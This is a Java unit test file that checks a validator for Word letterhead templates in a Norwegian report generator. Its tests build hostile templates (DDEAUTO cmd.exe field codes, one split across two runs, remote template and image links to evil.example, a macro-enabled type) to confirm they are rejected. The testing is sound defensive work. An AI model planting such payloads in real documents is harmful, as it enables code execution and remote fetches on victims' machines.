package no.innspill.word;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigInteger;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Optional;
import java.util.function.Consumer;
import no.innspill.document.Block;
import no.innspill.document.Grid;
import no.innspill.document.Outline;
import no.innspill.document.Section;
import no.innspill.document.Spreadsheet;
import no.innspill.language.Language;
import no.innspill.word.Letterhead.Fault;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackageRelationshipTypes;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.wp.usermodel.HeaderFooterType;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.apache.poi.xwpf.usermodel.XWPFRelation;
import org.apache.poi.xwpf.usermodel.XWPFStyle;
import org.junit.jupiter.api.Test;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTPageSz;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTStyle;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STFldCharType;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STStyleType;

/** A ministry's own Word template: what the report takes over, and what is turned away. */
public class LetterheadTest {

    private static final Outline OUTLINE = new Outline(
            Language.NB,
            "Tittelen",
            "Rapport",
            "Om det",
            new Block.Facts(List.of()),
            List.of(new Section("a", "Et kapittel", true, List.of(new Block.Paragraph("En tekst")))));

    /** As Norwegian Word makes them: the heading's style has a name in English and an id in Norwegian. */
    public static byte[] template(Consumer<XWPFDocument> more) {
        try (XWPFDocument template = new XWPFDocument()) {
            template.createParagraph().createRun().setText("Skriv her");
            template.createHeader(HeaderFooterType.DEFAULT)
                    .createParagraph()
                    .createRun()
                    .setText("Kunnskapsdepartementet");
            CTStyle heading = CTStyle.Factory.newInstance();
            heading.setType(STStyleType.PARAGRAPH);
            heading.setStyleId("Overskrift1");
            heading.addNewName().setVal("heading 1");
            template.createStyles().addStyle(new XWPFStyle(heading));
            more.accept(template);
            template.getPackage()
                    .replaceContentType(XWPFRelation.DOCUMENT.getContentType(), XWPFRelation.TEMPLATE.getContentType());
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            template.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void theReportHasItsStylesAndItsHeaderInEveryPartAndNothingThatWasWrittenInIt() throws Exception {
        byte[] word = WordDocument.write(OUTLINE, Optional.of(Letterhead.check(template(any -> {}))));
        try (XWPFDocument document = new XWPFDocument(new ByteArrayInputStream(word))) {
            assertThat(document.getParagraphs())
                    .noneMatch(paragraph -> paragraph.getText().contains("Skriv her"))
                    .anyMatch(paragraph -> "Overskrift1".equals(paragraph.getStyle())
                            && paragraph.getText().equals("Et kapittel"));
            assertThat(document.getHeaderList())
                    .anyMatch(header -> header.getText().contains("Kunnskapsdepartementet"));
            String body = document.getDocument().xmlText();
            assertThat(body.split("<w:sectPr", -1)).hasSize(4);
            assertThat(body.split("headerReference ", -1)).hasSize(4);
            assertThat(body.split("footerReference ", -1)).hasSize(4);
        }
        try (OPCPackage parts = OPCPackage.open(new ByteArrayInputStream(word))) {
            assertThat(parts.getPartsByContentType(XWPFRelation.DOCUMENT.getContentType()))
                    .hasSize(1);
        }
    }

    @Test
    void whatIsNoWordFileIsTurnedAway() {
        assertThat(fault("Ikke en mal".getBytes(StandardCharsets.UTF_8))).isEqualTo(Fault.NOT_WORD);
        assertThat(fault(new byte[0])).isEqualTo(Fault.NOT_WORD);
        assertThat(fault(Spreadsheet.write(
                        OUTLINE.about(),
                        List.of(new Grid("A", List.of("A"), List.of(9), List.of(List.of((Object) 1L)))))))
                .isEqualTo(Fault.NOT_WORD);
    }

    @Test
    void soIsWhatIsTooLargeOrFetchesSomething() {
        assertThat(fault(new byte[Letterhead.LARGEST + 1])).isEqualTo(Fault.TOO_LARGE);
        assertThat(
                        fault(
                                template(
                                        template -> template.getPackagePart()
                                                .addRelationship(
                                                        URI.create("https://evil.example/t.dotm"),
                                                        TargetMode.EXTERNAL,
                                                        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"))))
                .isEqualTo(Fault.RUNS_OR_FETCHES);
        assertThat(fault(template(template -> template.getPackagePart()
                        .addRelationship(
                                URI.create("https://evil.example/i.png"),
                                TargetMode.EXTERNAL,
                                PackageRelationshipTypes.IMAGE_PART))))
                .isEqualTo(Fault.RUNS_OR_FETCHES);
    }

    private static Fault fault(byte[] file) {
        return catchThrowableOfType(Letterhead.Faulty.class, () -> Letterhead.check(file))
                .fault();
    }

    @Test
    void whatRunsOrFetchesIsNotTakenWhereverItStands() {
        for (String field : List.of(
                " DDEAUTO c:\\\\windows cmd.exe ",
                "includepicture \"http://evil.example/x.png\"",
                "LINK Excel.Sheet.8 x")) {
            assertThat(fault(template(template -> template.createFooter(HeaderFooterType.DEFAULT)
                            .createParagraph()
                            .getCTP()
                            .addNewFldSimple()
                            .setInstr(field))))
                    .isEqualTo(Fault.RUNS_OR_FETCHES);
        }
        assertThat(fault(template(template -> {
                    XWPFParagraph foot =
                            template.createFooter(HeaderFooterType.DEFAULT).createParagraph();
                    foot.createRun().getCTR().addNewFldChar().setFldCharType(STFldCharType.BEGIN);
                    foot.createRun().getCTR().addNewInstrText().setStringValue(" DDE");
                    foot.createRun().getCTR().addNewInstrText().setStringValue("AUTO cmd.exe");
                })))
                .as("told in two pieces")
                .isEqualTo(Fault.RUNS_OR_FETCHES);
        assertThat(fault(template(template -> template.getPackage()
                        .addExternalRelationship("https://evil.example/i.png", PackageRelationshipTypes.IMAGE_PART))))
                .as("of the whole file")
                .isEqualTo(Fault.RUNS_OR_FETCHES);
        assertThat(fault(template(template -> template.getPackage()
                        .replaceContentType(
                                XWPFRelation.DOCUMENT.getContentType(),
                                XWPFRelation.MACRO_TEMPLATE_DOCUMENT.getContentType()))))
                .as("one for macros")
                .isEqualTo(Fault.RUNS_OR_FETCHES);
    }

    @Test
    void fieldsThatOnlyCountArePartOfALetterhead() throws Exception {
        Letterhead.check(template(template -> template.createFooter(HeaderFooterType.DEFAULT)
                .createParagraph()
                .getCTP()
                .addNewFldSimple()
                .setInstr(" PAGE \\* MERGEFORMAT ")));
    }

    @Test
    void paperThatIsNoneGivesWayToOurs() throws Exception {
        for (String width : List.of("0", "9999999")) {
            byte[] word = WordDocument.write(OUTLINE, Optional.of(Letterhead.check(template(template -> {
                CTPageSz size = template.getDocument().getBody().addNewSectPr().addNewPgSz();
                size.setW(new BigInteger(width));
                size.setH(BigInteger.TEN);
            }))));
            try (XWPFDocument document = new XWPFDocument(new ByteArrayInputStream(word))) {
                assertThat(document.getDocument()
                                .getBody()
                                .getSectPr()
                                .getPgSz()
                                .getW())
                        .isEqualTo(BigInteger.valueOf(11906));
            }
        }
    }
}
